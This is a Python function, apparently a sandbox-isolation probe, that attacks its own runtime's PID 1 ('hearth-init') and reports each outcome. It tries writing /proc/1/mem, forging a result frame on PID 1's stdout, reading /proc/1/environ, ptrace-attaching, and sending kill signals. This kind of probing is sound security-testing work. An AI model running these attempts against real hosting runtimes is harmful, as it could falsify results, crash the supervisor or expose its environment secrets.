# A Python function that attacks PID 1 of its own sandbox (hearth-init, the process
# the worker trusts for results, logs and exits) and reports how each attempt went.
# Module scope runs once per execution environment.
import ctypes
import errno
import json
import os
import signal
import struct

count = 0  # invocations seen by this environment

PTRACE_ATTACH = 16
PTRACE_DETACH = 17
KIND_RESULT = 5  # agentproto.KindResult


def _outcome(f):
    try:
        return {"ok": True, "value": f()}
    except OSError as e:
        return {"ok": False, "error": errno.errorcode.get(e.errno, str(e.errno))}


def _open(path, mode):
    def f():
        with open(path, mode, buffering=0):
            return "opened"
    return f


def _forge(request_id):
    # A Result frame for this very invocation, as hearth-init would write it.
    def f():
        header = json.dumps({"requestId": request_id}).encode()
        body = b'"forged by the function"'
        rest = bytes([KIND_RESULT]) + struct.pack(">I", len(header)) + header + body
        with open("/proc/1/fd/1", "wb", buffering=0) as out:
            out.write(struct.pack(">I", len(rest)) + rest)
        return "written"
    return f


def _read(path):
    def f():
        with open(path, "rb") as fh:
            return fh.read(64).decode("utf-8", "replace")
    return f


def _ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_ATTACH, 1, None, None) == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    return "attached"


def _kill(sig):
    def f():
        os.kill(1, sig)
        return "sent"
    return f


def _status():
    out = {}
    with open("/proc/self/status") as fh:
        for line in fh:
            k, _, v = line.partition(":")
            if k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
                out[k] = v.strip()
    return out


def lambda_handler(event, context):
    global count
    count += 1
    if event.get("action") != "attack":
        return {"count": count, "log_stream": context.log_stream_name}
    attempts = {
        "open /proc/1/mem rw": _open("/proc/1/mem", "r+b"),
        "open /proc/1/mem r": _open("/proc/1/mem", "rb"),
        "open /proc/1/fd/0 r": _open("/proc/1/fd/0", "rb"),
        "forge a Result on /proc/1/fd/1": _forge(context.aws_request_id),
        "open /proc/1/fd/2 w": _open("/proc/1/fd/2", "wb"),
        "read /proc/1/environ": _read("/proc/1/environ"),
        "list /proc/1/fd": lambda: os.listdir("/proc/1/fd"),
        "readlink /proc/1/fd/1": lambda: os.readlink("/proc/1/fd/1"),
        "ptrace attach 1": _ptrace,
    }
    for name in ("SIGTERM", "SIGKILL", "SIGSTOP", "SIGHUP", "SIGINT", "SIGUSR1"):
        attempts["kill 1 " + name] = _kill(getattr(signal, name))
    return {
        "count": count,
        "log_stream": context.log_stream_name,
        "ids": [os.getuid(), os.geteuid(), os.getgid(), os.getegid(), os.getgroups()],
        "status": _status(),
        "attempts": {name: _outcome(f) for name, f in attempts.items()},
    }
